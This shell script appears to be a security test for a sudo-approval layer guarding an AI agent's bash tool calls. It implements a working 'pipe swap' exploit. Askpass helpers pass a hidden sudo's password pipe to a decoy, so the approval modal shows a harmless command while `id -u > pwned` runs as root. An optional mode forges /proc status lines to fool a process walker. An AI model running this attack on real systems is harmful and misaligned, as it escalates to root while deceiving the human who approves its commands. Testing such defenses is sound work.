#!/bin/sh
# The pipe swap (issue 9, attack 2; ADR 0005), as the agent would run it from
# a bash tool call. Usage: sh pipe_swap.sh WORKDIR [keep|kthread]
# ("keep": the holder keeps a copy of the pipe while the decoy runs.
# "kthread": sudo B runs under a name whose `Name:` line in /proc/<pid>/status
# carries a carriage return and a forged `Kthread:\t1` line, and a first
# sudo of the session is asked before the decoy, so that a walk of /proc has
# seen sudo B under that name before the decoy's request is decided.)
#
# 1. A hidden `SUDO_ASKPASS=give /usr/bin/sudo -A -k sh -c 'id -u > pwned'`
#    (sudo B): its askpass passes sudo B's root-owned pipe to a holder, exits.
# 2. A decoy `SUDO_ASKPASS=take /usr/bin/sudo -A -k true`: its askpass takes
#    that pipe onto fd 1 and execs the session's real launcher ($SUDO_ASKPASS
#    of the tool call, saved first). A modal would show the decoy's argv while
#    the password went into sudo B's pipe, and `id -u` would run as root.
# WORKDIR/pwned must never exist; WORKDIR/hidden.out holds sudo B's output.
set -u
dir=$1
real="$SUDO_ASKPASS"
here=$(cd "$(dirname "$0")" && pwd)
py=/usr/bin/python3
sock="$dir/hold.sock"
printf '#!/bin/sh\nexec %s %s give %s\n' "$py" "$here/pipe_swap.py" "$sock" >"$dir/give"
printf '#!/bin/sh\nexec %s %s take %s %s "$1"\n' "$py" "$here/pipe_swap.py" "$sock" "$real" >"$dir/take"
chmod 700 "$dir/give" "$dir/take"

mode=${2-}
sudo_b=/usr/bin/sudo
if [ "$mode" = kthread ]; then
  sudo_b="$dir/s$(printf '\rKthread:\t1')"
  ln -s /usr/bin/sudo "$sudo_b"
fi
keep=
[ "$mode" = keep ] && keep=keep
"$py" "$here/pipe_swap.py" holder "$sock" $keep &
holder=$!
SUDO_ASKPASS="$dir/give" "$sudo_b" -A -k sh -c "id -u > '$dir/pwned'" >"$dir/hidden.out" 2>&1 &
hidden=$!
i=0
while [ ! -e "$sock.got" ] && [ "$i" -lt 200 ]; do sleep 0.05; i=$((i + 1)); done
[ -e "$sock.got" ] && echo "swap: the holder has sudo B's pipe"
if [ "$mode" = kthread ]; then
  SUDO_ASKPASS="$real" /usr/bin/sudo -A -k true
  echo "first sudo rc=$?"
fi
SUDO_ASKPASS="$dir/take" /usr/bin/sudo -A -k true
echo "decoy rc=$?"
wait "$holder" 2>/dev/null
# sudo B ends by itself once the last copy of its pipe's write end closes.
wait "$hidden"
echo "hidden rc=$?"
echo "hidden said: $(cat "$dir/hidden.out")"
if [ -e "$dir/pwned" ]; then echo "PWNED: $(cat "$dir/pwned")"; else echo "pwned: absent"; fi
